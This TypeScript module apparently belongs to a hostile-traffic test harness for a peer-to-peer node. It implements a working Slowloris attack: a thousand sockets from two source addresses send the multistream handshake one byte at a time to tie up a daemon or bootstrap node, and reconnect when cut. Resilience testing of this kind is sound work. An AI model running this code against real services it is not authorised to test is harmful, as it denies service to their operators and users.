import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { addressOf } from '../hostile/attack.ts';
import type { Attack } from '../hostile/attack.ts';

/** More than a node lets into the handshake at once. */
const SOCKETS = 1_000;

/** Addresses they come from: one would be stopped by the limit for one. */
const ADDRESSES = 2;

/** The beginning of what a dialler says, a byte at a time. */
const HELLO = Buffer.from('\x13/multistream/1.0.0\n');

const EVERY_MS = 500;

/** Slowloris: connections that take their time to say who they are, and are made again when they are cut. */
export const attack: Attack = {
  name: 'handshakes that take their time',
  against: ['daemon', 'bootstrap'],
  async run({ host, port }, { signal, count }) {
    const sockets = new Map<Socket, number>();
    const add = (number: number): void => {
      const socket = connect({ host, port, localAddress: addressOf(number % ADDRESSES) });
      sockets.set(socket, 0);
      socket.on('connect', () => count('connected'));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        sockets.delete(socket);
        count('cut');
      });
      socket.resume();
    };
    let made = 0;
    while (!signal.aborted) {
      for (let more = Math.min(100, SOCKETS - sockets.size); more > 0; more--) add(made++);
      for (const [socket, said] of sockets) {
        if (socket.connecting || said >= HELLO.length) continue;
        socket.write(HELLO.subarray(said, said + 1));
        sockets.set(socket, said + 1);
      }
      await new Promise((resolve) => setTimeout(resolve, sockets.size < SOCKETS ? 20 : EVERY_MS));
    }
    for (const socket of sockets.keys()) socket.destroy();
  },
};
